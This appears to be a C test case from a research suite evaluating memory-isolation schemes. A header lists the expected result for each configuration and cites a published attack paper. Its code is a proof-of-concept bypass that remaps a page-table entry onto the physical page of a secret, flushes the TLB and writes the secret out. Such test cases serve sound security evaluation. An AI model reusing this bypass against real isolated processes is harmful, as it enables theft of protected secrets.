/*
{
  "title": "The application's secret read by a second mapping of its page, which the extension makes in a write window",
  "precondition": "a write window, as uIO exports it",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (mutable backings)",
  "cells": {
    "none": {"outcome": "leaked", "rule": "I7", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I5", "event": "guardedAccess"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {
    "none": "completed",
    "uio-mpk": "completed",
    "mpk-hardened": "completed",
    "ring3": "completed",
    "pks-hardened": "completed"
  , "mpk-bundled": "completed"}
}
*/
#include "attack.h"
#include "processor.h"

static uint8_t room[2 * PAGE];

int main(void) {
  BYPASS(
      volatile uint8_t *const page = (volatile uint8_t *)(((uint64_t)room + PAGE - 1) & ~(uint64_t)(PAGE - 1));
      *page = 0;
      volatile uint64_t *const entry = leaf(page);
      const uint64_t alias = (*entry & ~ADDRESS_MASK) | (physical(secret) & ADDRESS_MASK);
      USHELL_SET(*entry, alias);
      invalidate(page);
      ushell_write((const char *)page + ((uint64_t)secret & (PAGE - 1)), sizeof secret));
  return 0;
}
